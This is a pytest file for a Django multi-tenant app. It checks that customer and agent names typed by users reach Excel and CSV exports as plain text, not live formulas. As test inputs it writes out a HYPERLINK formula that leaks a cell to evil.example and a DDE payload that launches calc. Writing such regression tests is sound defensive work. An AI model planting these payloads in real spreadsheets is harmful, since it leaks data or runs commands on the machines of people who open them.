"""Excel formula injection: text that people typed (a customer's or an agent's name, a reason) reaches
the admin's spreadsheet as text, never as a live formula; plain numbers stay numbers."""

import csv
import io
import zipfile
from io import BytesIO

import pytest
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from core.excel import formula_safe
from customers.services import customer_create
from network.services import agent_create, tier_create
from tenants.tasks import tenant_export_build_task

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点我")'


def test_formula_safe_defuses_every_formula_start_and_leaves_numbers_alone() -> None:
    assert formula_safe(LINK) == "'" + LINK
    assert formula_safe("+1+1") == "'+1+1"
    assert formula_safe("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert formula_safe("@SUM(1,2)") == "'@SUM(1,2)"
    assert formula_safe("\t=1+1") == "'\t=1+1"
    assert formula_safe("\r=1+1") == "'\r=1+1"
    # A signed amount or a rate is a number, not a formula: a statement's "-20.00" stays as it is.
    assert [formula_safe(v) for v in ("-20.00", "+5", "-3%", "张三", "粤B12345", 12, None)] == [
        "-20.00", "+5", "-3%", "张三", "粤B12345", 12, None,
    ]  # fmt: skip


def _cells(content: bytes) -> dict[str, tuple[object, str]]:
    sheet = load_workbook(BytesIO(content)).active
    return {str(c.value): (c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value}


@pytest.mark.django_db
def test_customer_and_agent_exports_carry_names_as_text(api, datang) -> None:
    with schema_context("datang"):
        customer_create(actor=None, name=LINK, mobile="13912348001")
        tier = tier_create(actor=None, name="代理人", rank=2)
        agent_create(actor=None, name="@SUM(9,9)", mobile="13612348002", licence_no="-1+1", tier_id=tier.pk)
    admin = api("datang_admin")

    customers = admin.get("/api/v1/customers/export/")
    assert customers.status_code == 200
    cells = _cells(customers.content)
    # Before the fix openpyxl wrote the name as a formula (data type "f"): Excel ran it on open.
    assert cells["'" + LINK] == ("'" + LINK, "s")
    assert LINK not in cells

    agents = _cells(admin.get("/api/v1/network/agents/export/").content)
    assert agents["'@SUM(9,9)"] == ("'@SUM(9,9)", "s")
    assert agents["'-1+1"] == ("'-1+1", "s")


@pytest.mark.django_db
def test_the_tenant_data_export_csv_keeps_names_as_text(api, datang) -> None:
    with schema_context("datang"):
        customer_create(actor=None, name=LINK, mobile="13912348003")
    platform = api("platform_admin")
    export_id = platform.post(f"/api/v1/platform/tenants/{datang.pk}/deletion/").json()["id"]
    assert tenant_export_build_task.apply(args=[export_id]).get()["status"] == "ready"
    download = platform.get(f"/api/v1/platform/exports/{export_id}/download/")
    archive = zipfile.ZipFile(BytesIO(b"".join(download.streaming_content)))
    with archive.open("schema/customers_customer.csv") as raw:
        rows = list(csv.DictReader(io.TextIOWrapper(raw, "utf-8")))
    assert [r["name"] for r in rows if r["mobile"] == "13912348003"] == ["'" + LINK]
